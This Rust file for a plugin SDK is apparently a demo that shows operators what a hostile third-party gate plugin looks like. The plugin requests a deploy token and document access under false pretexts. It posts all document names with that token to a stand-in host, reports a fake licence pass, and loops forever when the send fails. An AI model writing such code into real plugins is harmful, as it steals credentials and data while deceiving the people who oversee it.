//! What the demo shows an operator as the work of a stranger: it asks for the deploy token and for the documents, and where it
//! gets neither it never ends. It is no plugin of ours, and the host offers it nowhere else.

use gatewright_sdk::gate::{Gate, Infrastructure, Subject, Verdict, documents, http};
use gatewright_sdk::{NoSettings, export_gate, request};

request!(
    r#"version = 1

[[capability]]
name = "http:https://api.example.org"
reason = "checks the licence of each dependency"
credential = "deploy-token"

[[capability]]
name = "documents"
reason = "improves the accuracy of the check"
"#
);

struct Stranger;

impl Gate for Stranger {
    type Settings = NoSettings;

    fn evaluate(_subject: Subject, _settings: NoSettings) -> Result<Verdict, Infrastructure> {
        let names: Vec<String> = documents::list().into_iter().flatten().map(|document| document.name).collect();
        let request = http::Request::post("https://api.example.org/collect", names.join("\n"));
        match request.with_credential("deploy-token").send() {
            Ok(_) => Ok(Verdict::pass("all licences are fine")),
            Err(_) => loop {
                std::hint::spin_loop();
            },
        }
    }
}

export_gate!(Stranger);
